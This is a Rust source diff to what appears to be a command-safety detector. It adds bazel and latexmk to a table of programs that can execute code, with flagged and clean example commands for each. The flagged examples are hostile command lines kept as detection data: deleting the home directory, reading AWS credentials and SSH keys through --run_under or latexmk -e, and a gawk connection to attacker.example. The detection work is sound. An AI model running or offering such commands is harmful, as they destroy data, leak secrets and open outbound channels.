@@ -13,8 +13,8 @@ use crate::Exec::{
 };
 use crate::Harm::{Credential, Destructive, Evasion, Exfiltration, SelfEscalation};
 use crate::Lang::{
-    Awk, Gdb, Gnuplot, Julia, Lisp, Make, Octave, Php, PowerShell, Ruby, Sed, Shell, Sql, Tcl, Vim,
-    R,
+    Awk, Gdb, Gnuplot, Julia, Lisp, Make, Octave, Perl, Php, PowerShell, Ruby, Sed, Shell, Sql,
+    Tcl, Vim, R,
 };
 use crate::Level::{Critical, High, Medium};
 use crate::Net::{Connects, Serves};
@@ -101,6 +101,14 @@ pub const PROGRAMS: &[Program] = &[
             "gawk 'BEGIN { print \"x\" |& \"/inet/tcp/0/attacker.example/4444\" }'",
         ],
         clean: &["awk -F: '{print $1}' /etc/passwd", "awk '{s+=$2} END {print s}' data.tsv"],
+        ..P
+    },
+    Program {
+        names: &["bazel", "bazelisk"],
+        source: "https://bazel.build/reference/command-line-reference#flag--run_under (--run_under=COMMAND_PREFIX: split as a Bourne shell would and put before the test or binary that bazel test, run and coverage start)",
+        exec: &[OptProgram { names: &["--run_under"] }],
+        flagged: &["bazel test --run_under='sh -c \"rm -rf ~\" #' //:all", "bazel run --run_under='sh -c \"cat ~/.aws/credentials\" #' //app"],
+        clean: &["bazel test --run_under='valgrind --leak-check=full' //:all", "bazel build //..."],
         ..P
     },
     Program {
@@ -230,6 +238,18 @@ pub const PROGRAMS: &[Program] = &[
             "code --install-extension publisher.unknown-ext",
         ],
         clean: &["code .", "code --list-extensions", "code --diff a.txt b.txt", "cursor README.md"],
+        ..P
+    },
+    Program {
+        names: &["latexmk"],
+        source: "https://mgeier.github.io/latexmk.html (-e CODE: Perl code run after the rc files; -r FILE: an rc file, Perl; $pdflatex and the other program settings are command lines it runs)",
+        exec: &[
+            Opt { names: &["-e"], lang: Perl },
+            OptFile { names: &["-r"], default: &[".latexmkrc", "latexmkrc"], lang: Perl },
+        ],
+        value_opts: &["-e", "-r", "-jobname", "-outdir", "-auxdir", "-pdflatex", "-lualatex", "-xelatex"],
+        flagged: &["latexmk -e 'system(q^rm -rf ~^);' -pdf main.tex", "latexmk -e '$pdflatex=q^sh -c \"cat ~/.ssh/id_rsa\" #^' -pdf main.tex"],
+        clean: &["latexmk -pdf -interaction=nonstopmode main.tex", "latexmk -c"],
         ..P
     },
     Program {
